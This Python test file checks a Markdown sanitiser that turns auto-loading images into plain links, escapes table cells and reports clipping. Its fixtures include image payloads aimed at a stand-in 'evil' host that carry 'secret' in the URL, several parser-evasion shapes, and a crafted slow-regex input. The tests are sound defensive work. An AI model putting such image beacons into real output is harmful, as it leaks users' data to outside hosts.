"""Markdown safety (``ui.markdown``): no image that loads by itself, tables within their caps.

What counts as an image is decided the way the browser's CommonMark renderer decides it (raw HTML is
parsed, as CommonMark says, even though the page shows it as text); each
case below renders an ``<img>`` in a CommonMark renderer unless it is neutralised.
"""

from __future__ import annotations

import time

from markdown_it import MarkdownIt

from core.text import fence
from ui.markdown import clip_text, neutralise_images, table_markdown

RENDER = MarkdownIt("commonmark", {"html": True}).enable(["table", "strikethrough"])


def renders_img(text: str) -> bool:
    return "<img" in RENDER.render(text)


def test_images_in_prose_become_links_and_code_is_kept_byte_for_byte() -> None:
    text = (
        "See ![chart](http://evil/?q=secret) and [a link](http://ok).\n\n"
        "Inline `![kept](x)` stays; ![undefined][r] is text already.\n"
        "```python\nprint('![kept](y)')\n```\n"
        "~~~\n![kept](z)\n~~~\n"
        "Last ![x](http://evil/2)"
    )
    assert neutralise_images(text) == (
        "See [image: chart](http://evil/?q=secret) and [a link](http://ok).\n\n"
        "Inline `![kept](x)` stays; ![undefined][r] is text already.\n"
        "```python\nprint('![kept](y)')\n```\n"
        "~~~\n![kept](z)\n~~~\n"
        "Last [image: x](http://evil/2)"
    )
    assert neutralise_images("```\n![in](u)") == "```\n![in](u)"  # an unclosed fence runs to the end
    # A paragraph that holds an image is rewritten whole: a code span in it changes look, never safety.
    assert neutralise_images("`![c](x)` and ![i](u)") == "`[image: c](x)` and [image: i](u)"


def test_shapes_a_scanner_gets_wrong_render_no_image() -> None:
    shapes = {
        "fence opened inside a list item": "- item\n  ```\n  code\n\n![x](http://evil/1)\n",
        "backticks inside an autolink": "<http://a`b>![x](http://evil/2)`",
        "backticks inside an HTML attribute": '<a title="`">![x](http://evil/3)</a>`',
        "escaped backticks": "\\`![a](http://evil/4)\\`",
        "an unclosed code span": "`open ![a](http://evil/5)",
        "a backtick in a fence's info string": "```x`y\n![a](http://evil/6)",
        "a defined reference": "![ref][r]\n\n[r]: http://evil/7",
        "inside a table": "| a |\n|---|\n| ![i](http://evil/8) |",
        "inside a quote inside a list": "- > ![q](http://evil/9)",
        "inside link text": "[![x](http://evil/10)](http://ok)",
    }
    for what, text in shapes.items():
        assert renders_img(text), f"the case itself is wrong: {what}"
        safe = neutralise_images(text)
        assert not renders_img(safe), f"{what}: {safe!r}"


def test_neutralising_is_linear_on_crafted_backticks() -> None:
    """The old scanner's regex took seconds on runs of backticks; this must grow with the size only."""
    crafted = ("`" * 3 + "![" + "a`" * 50 + "\n") * 400

    def cost(text: str) -> float:
        start = time.process_time()
        neutralise_images(text)
        return time.process_time() - start

    small, large = cost(crafted), cost(crafted * 4)
    assert not renders_img(neutralise_images(crafted))
    assert large < max(small, 0.01) * 12, (small, large)  # 4x the input: ~4x the work, never ~16x


def test_fence_cannot_be_closed_by_its_content() -> None:
    hostile = "data\n```\n![x](http://evil/11)\n````"
    block = fence(hostile, "text")
    assert block.startswith("`````text\n") and block.endswith("\n`````")
    assert not renders_img(block)


def test_table_cells_are_escaped() -> None:
    text = table_markdown('{"columns": ["a", "b|c"], "rows": [["1", "x|y\\nz"]], "shape": [1, 2]}')
    assert "| a | b\\|c |" in text
    assert "| 1 | x\\|y z |" in text
    assert "shape: 1 rows × 2 columns" in text


def test_table_beyond_its_caps_says_what_is_shown() -> None:
    columns = [f"c{i}" for i in range(50)]
    rows = [[str(r)] * 50 for r in range(40)]
    text = table_markdown({"columns": columns, "rows": rows, "shape": [400_000, 50]}, max_rows=20, max_columns=30)
    lines = [line for line in text.splitlines() if line.startswith("|")]
    assert len(lines) == 2 + 20 and lines[0].count("|") == 31
    assert "showing 20 of 400,000 rows" in text and "showing 30 of 50 columns" in text


def test_clip_text_says_how_much_was_cut() -> None:
    assert clip_text("short", 10) == "short"
    clipped = clip_text("x" * 250_000, 100_000)
    assert clipped.startswith("x" * 100_000) and "showing 100,000 of 250,000 characters" in clipped
